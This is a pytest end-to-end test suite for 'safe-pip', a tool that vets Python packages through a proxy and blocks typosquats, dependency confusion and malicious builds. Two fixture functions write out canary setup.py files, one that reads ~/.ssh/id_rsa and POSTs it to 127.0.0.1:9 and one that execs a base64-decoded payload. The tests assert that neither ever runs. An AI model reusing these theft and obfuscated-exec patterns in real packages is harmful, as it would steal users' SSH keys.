"""`safe-pip install` end to end: the real pip of a fresh virtualenv, behind safe-pip's
proxy, against a fixture index served on 127.0.0.1 by the test.

Malicious fixtures are canaries: if their setup.py ever ran it would only write a marker
file in the test's temp dir and talk to 127.0.0.1:9 (nothing listens there). The tests
prove it never runs: the marker never exists.
"""

from __future__ import annotations

import base64
import json
import os
import pathlib
import socket
import subprocess
import sys
import time

import pytest

from fixtures_index import IndexServer, build_sdist, build_wheel, isolated_env

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX paths and venv layout")


def _closed_port() -> int:
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


@pytest.fixture(scope="module")
def venv(tmp_path_factory) -> pathlib.Path:
    """One fresh virtualenv (with the pip Python ships) for this module."""
    d = tmp_path_factory.mktemp("venv")
    subprocess.run([sys.executable, "-m", "venv", str(d)], check=True, capture_output=True)
    return d


@pytest.fixture
def home(tmp_path) -> dict[str, str]:
    """An environment where nothing of the real user's config, DB or caches is used."""
    h = tmp_path / "home"
    (h / ".ssh").mkdir(parents=True)
    # Empty org and user config files: the machine's own settings never reach a test.
    empty = tmp_path / "empty-config.toml"
    empty.write_text("")
    return isolated_env(
        h,
        XDG_STATE_HOME=str(h / "state"),
        SAFE_PIP_DB=str(tmp_path / "verdicts.sqlite3"),
        SAFE_PIP_ORG_CONFIG=str(empty),
        SAFE_PIP_CONFIG=str(empty),
        PIP_NO_CACHE_DIR="1",
    )


class Index(IndexServer):
    """The shared fixture index (PEP 691 JSON with upload times) over its own folder."""

    def __init__(self, root: pathlib.Path, upload_times: dict[str, float] | None = None) -> None:
        root.mkdir(parents=True, exist_ok=True)
        iso = {f: time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t)) for f, t in (upload_times or {}).items()}
        super().__init__(root, json=True, upload_times=iso)

    @property
    def base(self) -> str:
        return self.url[: -len("simple/")]

    def file_paths(self) -> list[str]:
        return [p for _, p, _ in self.requests if p.startswith("/files/")]


def safe_pip(env: dict[str, str], *args: str, cwd: pathlib.Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["safe-pip", "install", *args], capture_output=True, text=True, env=env, cwd=cwd, timeout=600)


def installed(venv: pathlib.Path, name: str) -> str | None:
    proc = subprocess.run([str(venv / "bin" / "python"), "-m", "pip", "show", name], capture_output=True, text=True)
    for line in proc.stdout.splitlines():
        if line.startswith("Version:"):
            return line.split(":", 1)[1].strip()
    return None


def canary_setup(marker: pathlib.Path) -> str:
    """setup.py that steals ~/.ssh and posts it (to 127.0.0.1:9) — and leaves a marker."""
    return (
        "import os, urllib.request\n"
        "from setuptools import setup\n"
        f"open({str(marker)!r}, 'w').write('setup.py ran')\n"
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "urllib.request.urlopen('http://127.0.0.1:9/collect', data=key.encode())\n"
        "setup(name='zqx-setup-canary', version='1.0')\n"
    )


def decode_exec_setup(marker: pathlib.Path) -> str:
    payload = f"open({str(marker)!r}, 'w').write('payload ran')\nimport urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/x')\n"
    b64 = base64.b64encode(payload.encode()).decode()
    return f"import base64\nfrom setuptools import setup\nexec(base64.b64decode('{b64}'))\nsetup(name='zqx-decode-canary', version='1.0')\n"


CLEAN = {"qqclean_app/__init__.py": "from qqclean_dep import VALUE\n", "qqclean_app/core.py": "def double(x):\n    return 2 * x\n"}


def test_clean_package_and_its_dependency_install_and_are_listed(venv, home, tmp_path) -> None:
    root = tmp_path / "index"
    root.mkdir()
    dists = [
        build_wheel(root, "qqclean-app", "1.0", CLEAN, requires=("qqclean-dep>=1",)),
        build_wheel(root, "qqclean-dep", "1.2", {"qqclean_dep/__init__.py": "VALUE = 1\n"}),
    ]
    with Index(root) as idx:
        proc = safe_pip(home, "--python", str(venv), "--format", "json", "--index-url", idx.url, "qqclean-app")
        assert proc.returncode == 0, proc.stdout + proc.stderr
        report = json.loads(proc.stdout)
        files = {f["filename"]: f for f in report["files"]}
        assert set(files) == {d.name for d in dists}
        assert all(f["verdict"] == "allow" and f["served"] and f["source"] == "index" for f in files.values())
        assert report["pip"]["ran"] and report["pip"]["exit_code"] == 0 and report["exit_code"] == 0
        # pip's own output went to stderr, through the proxy (never the fixture index directly).
        assert "Successfully installed" in proc.stderr
        assert idx.url not in proc.stderr
        # Every file pip got was fetched by the proxy from the fixture index.
        assert sorted(idx.file_paths()) == sorted(f"/files/{d.name}" for d in dists)
    assert installed(venv, "qqclean-app") == "1.0" and installed(venv, "qqclean-dep") == "1.2"


def test_terminal_summary_lists_every_file(venv, home, tmp_path) -> None:
    (tmp_path / "index").mkdir()
    build_wheel(tmp_path / "index", "qqwheelapp", "0.3", {"qqwheelapp/__init__.py": "X = 1\n"})
    with Index(tmp_path / "index") as idx:
        proc = safe_pip(home, "--python", str(venv), "-i", idx.url, "qqwheelapp==0.3")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "ALLOW  qqwheelapp 0.3  qqwheelapp-0.3-py3-none-any.whl" in proc.stdout, proc.stdout
    assert "1 file checked: 0 blocked, 0 warned, 1 allowed; pip exited with 0" in proc.stdout


@pytest.mark.parametrize("kind", ["steal-and-post", "decode-exec"])
def test_malicious_dependency_is_blocked_and_never_runs(venv, home, tmp_path, kind) -> None:
    marker = tmp_path / "CANARY_RAN"
    (pathlib.Path(home["HOME"]) / ".ssh" / "id_rsa").write_text("not a real key\n")
    root = tmp_path / "index"
    root.mkdir()
    project = "zqx-setup-canary" if kind == "steal-and-post" else "zqx-decode-canary"
    setup = canary_setup(marker) if kind == "steal-and-post" else decode_exec_setup(marker)
    evil = build_sdist(root, project, "1.0", {"setup.py": setup})
    build_wheel(root, "qqtransitive-app", "1.0", {"qqtransitive_app/__init__.py": "X = 1\n"}, requires=(project,))
    with Index(root) as idx:
        proc = safe_pip(home, "--python", str(venv), "--index-url", idx.url, "qqtransitive-app")
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    # pip shows the proxy's reason; the summary says what and why.
    assert "Forbidden by safe-pip" in proc.stderr, proc.stderr
    assert f"BLOCK  {project} 1.0" in proc.stdout, proc.stdout
    assert "Blocked:" in proc.stdout and evil.name in proc.stdout
    assert "critical" in proc.stdout
    assert not marker.exists(), "blocked setup.py ran"
    assert installed(venv, project) is None
    assert installed(venv, "qqtransitive-app") is None


def test_too_new_release_is_skipped_for_an_older_one(venv, home, tmp_path) -> None:
    root = tmp_path / "index"
    root.mkdir()
    old = build_wheel(root, "qqfresh", "1.0", {"qqfresh/__init__.py": "V = 1\n"})
    new = build_wheel(root, "qqfresh", "2.0", {"qqfresh/__init__.py": "V = 2\n"})
    with Index(root, {old.name: time.time() - 90 * 86400, new.name: time.time() - 3600}) as idx:
        # Without an age policy pip would take 2.0 (dry run: nothing installed).
        dry = safe_pip(home, "--python", str(venv), "-i", idx.url, "--dry-run", "qqfresh")
        assert dry.returncode == 0 and "qqfresh-2.0" in dry.stdout, dry.stdout + dry.stderr
        proc = safe_pip(home, "--python", str(venv), "-i", idx.url, "--min-release-age", "7", "qqfresh")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert installed(venv, "qqfresh") == "1.0"
    assert new.name in proc.stdout and "release-too-new" in proc.stdout, proc.stdout


def test_typosquat_is_refused_before_any_download(venv, home, tmp_path) -> None:
    (tmp_path / "index").mkdir()
    build_wheel(tmp_path / "index", "reqests", "1.0", {"reqests/__init__.py": ""})
    with Index(tmp_path / "index") as idx:
        proc = safe_pip(home, "--python", str(venv), "-i", idx.url, "reqests")
        assert idx.requests == [], "the index was contacted"
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "did you mean `requests`" in proc.stdout
    assert "pip was not run" in proc.stdout
    assert installed(venv, "reqests") is None


def test_typosquat_in_an_included_requirements_file_is_refused(venv, home, tmp_path) -> None:
    (tmp_path / "base.txt").write_text("djang0==4.2\n")
    (tmp_path / "requirements.txt").write_text("-r base.txt\n")
    proc = safe_pip(home, "--python", str(venv), "-r", str(tmp_path / "requirements.txt"))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "did you mean `django`" in proc.stdout and "base.txt:1" in proc.stdout


def test_unreachable_index_fails_closed_with_a_clear_message(venv, home) -> None:
    url = f"http://127.0.0.1:{_closed_port()}/simple/"
    proc = safe_pip(home, "--python", str(venv), "-i", url, "--retries", "0", "qqclean-other")
    out = proc.stdout + proc.stderr
    assert proc.returncode not in (0, 1), out
    assert "could not be read" in proc.stderr and "127.0.0.1" in proc.stderr, out
    assert "hint:" in proc.stderr
    assert installed(venv, "qqclean-other") is None


def test_malicious_local_archive_is_refused_before_pip_runs(venv, home, tmp_path) -> None:
    marker = tmp_path / "CANARY_RAN"
    (tmp_path / "dist").mkdir()
    path = build_sdist(tmp_path / "dist", "zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})
    proc = safe_pip(home, "--python", str(venv), "--no-index", f"./dist/{path.name}", cwd=tmp_path)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "Refused before pip ran" in proc.stdout and "pip was not run" in proc.stdout
    assert "install-network" in proc.stdout or "exfiltration" in proc.stdout, proc.stdout
    assert not marker.exists()
    assert installed(venv, "zqx-setup-canary") is None


def test_clean_local_wheel_installs_from_its_vetted_copy(venv, home, tmp_path) -> None:
    path = build_wheel(tmp_path, "qqlocal", "0.1", {"qqlocal/__init__.py": "X = 1\n"})
    proc = safe_pip(home, "--python", str(venv), "--no-index", str(path))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "ALLOW  qqlocal 0.1" in proc.stdout and "local" in proc.stdout
    assert installed(venv, "qqlocal") == "0.1"


def test_direct_url_is_downloaded_and_checked_by_the_wrapper(venv, home, tmp_path) -> None:
    marker = tmp_path / "CANARY_RAN"
    (tmp_path / "index").mkdir()
    evil = build_sdist(tmp_path / "index", "zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})
    with Index(tmp_path / "index") as idx:
        proc = safe_pip(home, "--python", str(venv), f"zqx-setup-canary @ {idx.base}files/{evil.name}")
        assert idx.file_paths() == [f"/files/{evil.name}"]
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "pip was not run" in proc.stdout
    assert not marker.exists()


def test_vcs_requirement_is_refused_as_unverifiable(venv, home) -> None:
    proc = safe_pip(home, "--python", str(venv), "git+https://127.0.0.1:9/repo.git#egg=qqvcs")
    assert proc.returncode == 3, proc.stdout + proc.stderr
    assert "unverifiable" in proc.stdout and "--allow-unverified" in proc.stdout


def test_requirements_file_index_lines_go_through_the_proxy(venv, home, tmp_path) -> None:
    marker = tmp_path / "CANARY_RAN"
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    build_wheel(tmp_path / "a", "qqreq-app", "1.0", {"qqreq_app/__init__.py": ""})
    evil = build_sdist(tmp_path / "b", "zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})
    with Index(tmp_path / "a") as a, Index(tmp_path / "b") as b:
        req = tmp_path / "requirements.txt"
        req.write_text(f"# pinned\n--index-url {a.url}\n--extra-index-url {b.url}\nqqreq-app\nzqx-setup-canary\n")
        before = req.read_bytes()
        proc = safe_pip(home, "--python", str(venv), "-r", str(req))
        assert b.file_paths() == [f"/files/{evil.name}"], "the extra index was not reached through the proxy"
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "Forbidden by safe-pip" in proc.stderr
    assert req.read_bytes() == before, "the user's requirements file was modified"
    assert a.url not in proc.stderr and b.url not in proc.stderr, "pip talked to an index directly"
    assert not marker.exists()


def test_find_links_folder_files_are_vetted(venv, home, tmp_path) -> None:
    marker = tmp_path / "CANARY_RAN"
    links = tmp_path / "links"
    links.mkdir()
    build_wheel(links, "qqlinked", "1.0", {"qqlinked/__init__.py": ""})
    build_sdist(links, "zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})
    proc = safe_pip(home, "--python", str(venv), "--no-index", "--find-links", str(links), "qqlinked")
    # The clean file installs; the malicious one never reaches pip and is reported.
    assert installed(venv, "qqlinked") == "1.0", proc.stdout + proc.stderr
    assert proc.returncode == 1
    assert "kept out of the find-links folder" in proc.stdout
    proc = safe_pip(home, "--python", str(venv), "--no-index", "--find-links", str(links), "zqx-setup-canary")
    assert proc.returncode == 1 and installed(venv, "zqx-setup-canary") is None
    assert not marker.exists()


def _free_port() -> int:
    return _closed_port()


def test_setup_pip_with_the_service_guards_plain_pip_and_undo_restores_the_file(venv, home, tmp_path) -> None:
    marker = tmp_path / "CANARY_RAN"
    (tmp_path / "index").mkdir()
    build_wheel(tmp_path / "index", "qqservice-ok", "1.0", {"qqservice_ok/__init__.py": ""})
    build_sdist(tmp_path / "index", "zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})
    with Index(tmp_path / "index") as idx:
        conf = tmp_path / "pip.conf"
        original = f"# the user's own pip config\r\n[global]\nindex-url = {idx.url}\ntimeout = 30\n\n[install]\nno-compile = true\n".encode()
        conf.write_bytes(original)
        env = dict(home, PIP_CONFIG_FILE=str(conf))
        port = _free_port()

        def cli(*args: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run(["safe-pip", *args], capture_output=True, text=True, env=env, timeout=120)

        def plain_pip(*args: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run([str(venv / "bin" / "python"), "-m", "pip", "install", "--retries", "0", *args], capture_output=True, text=True, env=env, timeout=300)

        setup = cli("setup", "pip", "--port", str(port))
        assert setup.returncode == 0, setup.stdout + setup.stderr
        assert f"127.0.0.1:{port}" in conf.read_text() and idx.url not in conf.read_text()
        assert "service start" in setup.stderr  # not running yet: the user is told what to do
        # Service down: pip fails (never falls back to the index), and says where it tried.
        down = plain_pip("qqservice-ok")
        assert down.returncode != 0 and f"127.0.0.1:{port}" in down.stdout + down.stderr
        assert idx.requests == []
        assert cli("service", "status").returncode == 3
        try:
            start = cli("service", "start")
            assert start.returncode == 0, start.stdout + start.stderr
            status = cli("service", "status")
            assert status.returncode == 0 and idx.url in status.stdout, status.stdout
            bad = plain_pip("zqx-setup-canary")
            assert bad.returncode != 0
            assert "Forbidden by safe-pip" in bad.stderr and "install-network" in bad.stderr, bad.stderr
            good = plain_pip("qqservice-ok")
            assert good.returncode == 0, good.stdout + good.stderr
        finally:
            stop = cli("service", "stop")
        assert stop.returncode == 0 and "stopped" in stop.stdout, stop.stdout + stop.stderr
        assert cli("service", "status").returncode == 3
    assert not marker.exists()
    assert installed(venv, "qqservice-ok") == "1.0" and installed(venv, "zqx-setup-canary") is None
    undo = cli("setup", "pip", "--undo")
    assert undo.returncode == 0, undo.stdout + undo.stderr
    assert conf.read_bytes() == original


def test_setup_uv_writes_a_default_index_and_undo_removes_a_new_file(home, tmp_path) -> None:
    env = dict(home, UV_CONFIG_FILE=str(tmp_path / "uv" / "uv.toml"))
    setup = subprocess.run(["safe-pip", "setup", "uv", "--port", "7431"], capture_output=True, text=True, env=env)
    assert setup.returncode == 0, setup.stderr
    text = (tmp_path / "uv" / "uv.toml").read_text()
    assert 'url = "http://127.0.0.1:7431/u/0/simple/"' in text and "default = true" in text
    undo = subprocess.run(["safe-pip", "setup", "uv", "--undo"], capture_output=True, text=True, env=env)
    assert undo.returncode == 0 and not (tmp_path / "uv" / "uv.toml").exists()
    poetry = subprocess.run(["safe-pip", "setup", "poetry"], capture_output=True, text=True, env=env)
    assert poetry.returncode == 0 and "installwarden" in poetry.stdout and "poetry self add safe-pip" not in poetry.stdout


def test_internal_name_comes_only_from_its_own_index(venv, home, tmp_path) -> None:
    marker = tmp_path / "CANARY_RAN"
    (tmp_path / "own").mkdir()
    (tmp_path / "public").mkdir()
    build_wheel(tmp_path / "own", "acme-qqtool", "1.0", {"acme_qqtool/__init__.py": "V = 1\n"})
    # The attacker's higher version on a public index: pip would prefer it.
    evil = build_sdist(tmp_path / "public", "acme-qqtool", "99.0", {"setup.py": canary_setup(marker)})
    build_wheel(tmp_path / "public", "qqpublic-dep", "1.0", {"qqpublic_dep/__init__.py": ""})
    with Index(tmp_path / "own") as own, Index(tmp_path / "public") as public:
        proc = safe_pip(
            home, "--python", str(venv), "-i", public.url, "--extra-index-url", own.url,
            "--internal", f"acme-*={own.url}", "acme-qqtool", "qqpublic-dep",
        )
        assert f"/files/{evil.name}" not in public.file_paths()
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert installed(venv, "acme-qqtool") == "1.0" and installed(venv, "qqpublic-dep") == "1.0"
    assert "every file of acme-qqtool" in proc.stdout and "dependency-confusion" in proc.stdout, proc.stdout
    assert not marker.exists()


# ---- the first hour: blocks that say what to do, records and messages that are right ----


def test_a_block_says_why_names_an_older_release_and_the_allow_line(venv, home, tmp_path) -> None:
    marker = tmp_path / "CANARY_RAN"
    root = tmp_path / "index"
    root.mkdir()
    build_sdist(root, "zqx-decode-canary", "0.9", {"setup.py": "from setuptools import setup\nsetup(name='zqx-decode-canary', version='0.9')\n"})
    build_sdist(root, "zqx-decode-canary", "1.0", {"setup.py": decode_exec_setup(marker)})
    with Index(root) as idx:
        proc = safe_pip(home, "--python", str(venv), "--index-url", idx.url, "zqx-decode-canary")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    # pip shows only the 403 reason phrase: the way forward is in it.
    assert "exception after review: safe-pip allow zqx-decode-canary==1.0 --alert " in proc.stderr, proc.stderr
    # The summary: why, the older release that is not blocked, the exact allow line.
    assert "why: `safe-pip explain " in proc.stdout, proc.stdout
    assert "instead: zqx-decode-canary==0.9 is not blocked (`safe-pip install 'zqx-decode-canary==0.9'`)" in proc.stdout, proc.stdout
    assert "exception: `safe-pip allow zqx-decode-canary==1.0 --alert " in proc.stdout
    assert "shaped like malware" in proc.stdout or "reviewing the flagged code" in proc.stdout
    assert not marker.exists()
    assert installed(venv, "zqx-decode-canary") is None


def test_direct_url_install_records_the_original_url(venv, home, tmp_path) -> None:
    (tmp_path / "index").mkdir()
    whl = build_wheel(tmp_path / "index", "qqdirect", "1.0", {"qqdirect/__init__.py": "X = 1\n"})
    with Index(tmp_path / "index") as idx:
        url = f"{idx.base}files/{whl.name}"
        proc = safe_pip(home, "--python", str(venv), f"qqdirect @ {url}")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    freeze = subprocess.run([str(venv / "bin" / "python"), "-m", "pip", "freeze"], capture_output=True, text=True).stdout
    assert f"qqdirect @ {url}" in freeze, freeze
    assert "safe-pip-install" not in freeze and "/vetted/" not in freeze, freeze


def test_a_mistyped_option_is_named_with_the_one_meant(venv, home) -> None:
    proc = safe_pip(home, "--python", str(venv), "--formt", "json", "six")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "no such option: --formt (did you mean --format?)" in proc.stderr, proc.stderr
    assert "json5" not in proc.stdout + proc.stderr


def test_a_missing_requirements_file_is_named_with_the_files_that_are_there(venv, home, tmp_path) -> None:
    (tmp_path / "requirements-dev.txt").write_text("six\n")
    proc = safe_pip(home, "--python", str(venv), "-r", "requirments.txt", cwd=tmp_path)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "cannot open requirements file requirments.txt" in proc.stderr, proc.stderr
    assert "requirements-dev.txt" in proc.stderr and "lockfile" not in proc.stderr, proc.stderr


def test_pips_messages_name_the_users_requirements_file(venv, home, tmp_path) -> None:
    (tmp_path / "index").mkdir()
    build_wheel(tmp_path / "index", "qqpinned", "1.0", {"qqpinned/__init__.py": "X = 1\n"})
    # A wrong pinned hash: pip's error cites the requirements file and line.
    (tmp_path / "reqs.txt").write_text("# pinned\nqqpinned==1.0 --hash=sha256:" + "0" * 64 + "\n")
    with Index(tmp_path / "index") as idx:
        proc = safe_pip(home, "--python", str(venv), "-i", idx.url, "-r", "reqs.txt", cwd=tmp_path)
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0, out
    assert "-r reqs.txt (line 2)" in out, out
    assert "safe-pip-install" not in out and "/requirements/r0/" not in out, out


def test_ctrl_c_stops_with_a_message_and_exit_130(venv, home, tmp_path) -> None:
    """Ctrl-C while pip waits on a hanging index: the terminal sends SIGINT to the whole
    foreground group (safe-pip and pip); no Python traceback, exit status 130."""
    import signal
    import threading

    hang = socket.socket()
    hang.bind(("127.0.0.1", 0))
    hang.listen(8)
    accepted: list[socket.socket] = []
    threading.Thread(target=lambda: [accepted.append(hang.accept()[0]) for _ in range(8)], daemon=True).start()
    url = f"http://127.0.0.1:{hang.getsockname()[1]}/simple/"
    proc = subprocess.Popen(
        ["safe-pip", "install", "--python", str(venv), "-i", url, "--timeout", "60", "qqhanging"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=home,
        start_new_session=True,
    )
    deadline = time.time() + 60
    while not accepted and time.time() < deadline:
        time.sleep(0.2)
    assert accepted, "pip never asked the index"
    time.sleep(1)
    os.killpg(proc.pid, signal.SIGINT)
    out, err = proc.communicate(timeout=120)
    hang.close()
    assert proc.returncode == 130, out + err
    assert "interrupted (Ctrl-C)" in err, err
    assert "Traceback" not in err and "KeyboardInterrupt" not in err, err


GATEWAY_TOKEN = "0123456789abcdef-laptop-token"
GATEWAY_ADMIN = "0123456789abcdef-admin-token"


def test_a_laptop_installing_through_the_gateway_sees_the_organisations_block_and_its_reason(venv, home, tmp_path) -> None:
    """`safe-pip install` on a laptop with the organisation's `safe-pip serve` as its index:
    a package the organisation denied is reported as blocked by the gateway, with the
    decision's reason, not as a network error; the token never shows."""
    import urllib.request

    root = tmp_path / "index"
    root.mkdir()
    build_wheel(root, "qqorg-denied", "1.0", {"qqorg_denied/__init__.py": "X = 1\n"})
    build_wheel(root, "qqorg-fine", "1.0", {"qqorg_fine/__init__.py": "Y = 2\n"})
    (tmp_path / "tokens").write_text(f"laptop {GATEWAY_TOKEN}\n")
    (tmp_path / "admins").write_text(f"sec-team {GATEWAY_ADMIN}\n")
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    with Index(root) as idx:
        serve = subprocess.Popen(
            ["safe-pip", "serve", "--bind", f"127.0.0.1:{port}", "--upstream", idx.url, "--db", f"sqlite:{tmp_path / 'gateway.sqlite3'}",
             "--token-file", str(tmp_path / "tokens"), "--admin-token-file", str(tmp_path / "admins"), "--no-access-log"],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env=home)
        try:
            assert "listening on" in serve.stdout.readline()
            decision = json.dumps({"package": "qqorg-denied", "action": "deny", "reason": "withdrawn by the security team"}).encode()
            req = urllib.request.Request(f"http://127.0.0.1:{port}/admin/decisions", data=decision, method="POST",
                                         headers={"Authorization": f"Bearer {GATEWAY_ADMIN}", "Content-Type": "application/json"})
            with urllib.request.urlopen(req, timeout=30) as r:
                assert r.status == 201
            gateway = f"http://laptop:{GATEWAY_TOKEN}@127.0.0.1:{port}/u/0/simple/"
            fine = safe_pip(home, "--python", str(venv), "--index-url", gateway, "qqorg-fine")
            assert fine.returncode == 0, fine.stdout + fine.stderr
            proc = safe_pip(home, "--python", str(venv), "--index-url", gateway, "qqorg-denied")
        finally:
            serve.terminate()
            serve.wait(timeout=30)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert "blocked by the organisation gateway" in proc.stdout, out
    assert "withdrawn by the security team" in proc.stdout, out
    assert "cannot verify" not in out and "unreachable" not in out, out
    assert GATEWAY_TOKEN not in out + fine.stdout + fine.stderr
    assert installed(venv, "qqorg-denied") is None
    assert installed(venv, "qqorg-fine") == "1.0"
